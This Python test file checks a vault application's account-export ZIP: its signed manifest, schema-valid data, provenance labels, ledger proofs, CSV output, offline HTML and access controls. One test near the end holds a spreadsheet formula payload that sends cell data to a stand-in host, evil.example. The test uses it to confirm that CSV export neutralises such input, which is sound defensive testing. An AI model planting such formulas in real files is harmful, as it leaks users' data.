"""Export: one click gives a ZIP of everything, for machines and people, signed by the vault."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import uuid
import zipfile
from typing import Any

import jsonschema
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from consent.grants.access import log_access
from consent.ledger.checkpoint import parse_verifier_key, verify_signed_checkpoint
from consent.ledger.merkle import leaf_hash, verify_inclusion
from consent.ledger.service import public_key_text
from consent.ledger.signer import LedgerSigner
from tests.consent.factories import connect, individual
from tests.helpers import page_csrf
from tests.intents.factories import app_token, make_intent, market_vendor, offer_body
from tests.sequencer import sequence
from vault.portability.parts import MANIFEST_TYP
from vault.runtime import Runtime


def download(client: TestClient) -> zipfile.ZipFile:
    token = page_csrf(client, "/account/export")
    response = client.post("/account/export", data={"csrf_token": token})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/zip"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert int(response.headers["x-export-estimate"]) > 0
    return zipfile.ZipFile(io.BytesIO(response.content))


@pytest.fixture
def busy_person(client: TestClient, db: Session, rt: Runtime) -> dict[str, Any]:
    """Someone with a profile, a connection the vendor read twice, an intent with an offer."""
    owner = individual(client, db, rt, given_name="Zephyrine", phone="+31 20 794 6138")
    vendor = market_vendor(db, rt, name="Velo Shop")
    grant = connect(db, rt, owner, vendor.app, ["email", "phone"])
    sequence(db)  # the worker integrates the pending event
    for _ in range(2):
        log_access(db, owner.id, vendor.app, ["email", "phone"])
    db.commit()
    intent = make_intent(db, rt, owner, title="Quixotic tandem bicycle")
    offer = client.post(
        f"/vendor/v1/intents/{intent.id}/offers",
        headers=app_token(db, rt, vendor),
        json=offer_body("850.00"),
    ).json()
    return {"owner": owner, "vendor": vendor, "grant": grant, "intent": intent, "offer": offer}


def test_the_archive_holds_every_file_listed_in_a_signed_manifest(
    client: TestClient, rt: Runtime, busy_person: dict[str, Any]
) -> None:
    archive = download(client)
    names = set(archive.namelist())
    assert {"data.json", "data.schema.json", "index.html", "manifest.json", "manifest.jws"} <= names
    assert {"profile.csv", "grants.csv", "access_log.csv", "intents.csv", "offers.csv"} <= names

    manifest_bytes = archive.read("manifest.json")
    manifest = json.loads(manifest_bytes)
    listed = {f["path"]: f for f in manifest["files"]}
    assert set(listed) == names - {"manifest.json", "manifest.jws"}
    for name, entry in listed.items():
        content = archive.read(name)
        assert hashlib.sha256(content).hexdigest() == entry["sha256"], name
        assert len(content) == entry["bytes"], name
    # The signature verifies with the vault's published ledger key, and covers the manifest.
    signed = LedgerSigner(rt).verify(
        archive.read("manifest.jws").decode(), public_key_text(rt), MANIFEST_TYP
    )
    assert signed == manifest_bytes
    assert manifest["vault"]["public_key"].strip() == LedgerSigner(rt).public_key().strip()


def test_data_json_has_everything_and_matches_its_schema(
    client: TestClient, busy_person: dict[str, Any]
) -> None:
    archive = download(client)
    data = json.loads(archive.read("data.json"))
    jsonschema.validate(data, json.loads(archive.read("data.schema.json")))

    sections = data["sections"]
    profile = {i["key"]: i["value"] for i in sections["profile"]["items"]}
    assert profile["given_name"] == "Zephyrine"
    assert profile["phone"] == "+31207946138"
    [grant] = sections["grants"]["items"]
    assert (grant["vendor_name"], grant["fields"], grant["status"]) == (
        "Velo Shop",
        ["email", "phone"],
        "active",
    )
    assert [h["event_type"] for h in grant["history"]] == ["grant.given"]
    assert len(sections["access_log"]["items"]) == 2
    [intent] = sections["intents"]["items"]
    assert intent["title"] == "Quixotic tandem bicycle"
    [offer] = sections["offers"]["items"]
    assert (offer["vendor_name"], offer["price"]) == ("Velo Shop", "850.00")
    assert len(sections["receipts"]["items"]) == 1
    assert sections["sessions"]["items"]


def test_every_item_says_whether_the_person_provided_it_or_the_vault_observed_it(
    client: TestClient, busy_person: dict[str, Any]
) -> None:
    sections = json.loads(download(client).read("data.json"))["sections"]
    provenance = {name: {i["provenance"] for i in s["items"]} for name, s in sections.items()}
    assert provenance["profile"] == {"provided"}
    assert provenance["intents"] == {"provided"}
    assert provenance["grants"] == {"provided"}
    assert provenance["access_log"] == {"observed"}
    assert provenance["offers"] == {"observed"}
    assert provenance["ledger_entries"] == {"observed"}
    assert all(s["provenance"] in ("provided", "observed") for s in sections.values())


def test_ledger_entries_come_with_inclusion_proofs_against_a_signed_checkpoint(
    client: TestClient, rt: Runtime, busy_person: dict[str, Any]
) -> None:
    sections = json.loads(download(client).read("data.json"))["sections"]
    [checkpoint] = sections["ledger_checkpoint"]["items"]
    vkey = parse_verifier_key(checkpoint["public_key"])
    signed = verify_signed_checkpoint(checkpoint["note"], vkey)
    entries = sections["ledger_entries"]["items"]
    assert entries, "a grant was given, so there is at least one entry"
    for item in entries:
        entry = item["entry"].encode()
        assert leaf_hash(entry).hex() == item["leaf_hash"]
        proof = [bytes.fromhex(h) for h in item["inclusion_proof"]]
        assert verify_inclusion(leaf_hash(entry), item["index"], signed.size, proof, signed.root)
        assert json.loads(entry)["grant_id"] == str(busy_person["grant"].id)


def test_the_csv_files_match_the_json(client: TestClient, busy_person: dict[str, Any]) -> None:
    archive = download(client)
    rows = list(csv.DictReader(io.StringIO(archive.read("access_log.csv").decode())))
    assert len(rows) == 2
    assert rows[0]["vendor_name"] == "Velo Shop"
    assert json.loads(rows[0]["fields"]) == ["email", "phone"]
    assert rows[0]["provenance"] == "observed"
    [intent] = list(csv.DictReader(io.StringIO(archive.read("intents.csv").decode())))
    assert (intent["title"], intent["max_budget"], intent["currency"]) == (
        "Quixotic tandem bicycle",
        "900.00",
        "EUR",
    )


def test_index_html_opens_offline_and_shows_the_data(
    client: TestClient, busy_person: dict[str, Any]
) -> None:
    page = download(client).read("index.html").decode()
    assert "Zephyrine" in page and "Quixotic tandem bicycle" in page and "Velo Shop" in page
    assert "<script" not in page.lower()
    # Nothing to fetch: no stylesheet, image or font from anywhere.
    assert not re.search(r"""(src|href)=['"](https?:)?//""", page)
    assert "<link" not in page.lower()


def test_an_export_needs_the_csrf_token_and_a_signed_in_individual(
    client: TestClient, db: Session, rt: Runtime
) -> None:
    signed_out = client.post("/account/export")
    assert signed_out.status_code == 403
    assert signed_out.headers["content-type"] != "application/zip"
    individual(client, db, rt)
    assert client.post("/account/export", data={"csrf_token": "forged"}).status_code == 403


def test_the_export_page_says_what_it_will_contain(
    client: TestClient, busy_person: dict[str, Any]
) -> None:
    page = client.get("/account/export").text
    assert "Reads by vendors" in page and "<td>2</td>" in page
    assert 'src="/static/export.js"' in page


def test_vrm_export_writes_the_same_archive_for_an_operator(deployment: Any) -> None:
    from tests.helpers import unique_email

    deployment.upgrade()
    rt = deployment.runtime()
    email = unique_email()
    owner_id = deployment.add_individual(rt, email)
    target = deployment.key_dir.parent / f"export-{uuid.uuid4().hex[:6]}.zip"

    output = deployment.ok("export", str(target), "--email", email)

    assert f"exported account {owner_id}" in output
    data = json.loads(zipfile.ZipFile(target).read("data.json"))
    assert {i["key"] for i in data["sections"]["profile"]["items"]} >= {"email", "phone"}
    refused = deployment.cli("export", str(target), "--email", email)
    assert refused.exit_code == 1 and "exists" in refused.output


def test_vendor_text_that_a_spreadsheet_would_run_is_defused_in_the_csv_only(
    client: TestClient, db: Session, rt: Runtime
) -> None:
    owner = individual(client, db, rt)
    intent = make_intent(db, rt, owner)
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
    client.post(
        f"/vendor/v1/intents/{intent.id}/offers",
        headers=app_token(db, rt, market_vendor(db, rt)),
        json=offer_body(message=formula),
    )
    archive = download(client)
    [row] = list(csv.DictReader(io.StringIO(archive.read("offers.csv").decode())))
    assert row["message"] == "'" + formula
    [offer] = json.loads(archive.read("data.json"))["sections"]["offers"]["items"]
    assert offer["message"] == formula


def test_vrm_export_writes_a_file_only_its_owner_can_read(deployment: Any) -> None:
    from tests.helpers import unique_email

    deployment.upgrade()
    rt = deployment.runtime()
    email = unique_email()
    deployment.add_individual(rt, email, full=False)
    target = deployment.key_dir.parent / f"export-{uuid.uuid4().hex[:6]}.zip"
    deployment.ok("export", str(target), "--email", email)
    assert target.stat().st_mode & 0o777 == 0o600
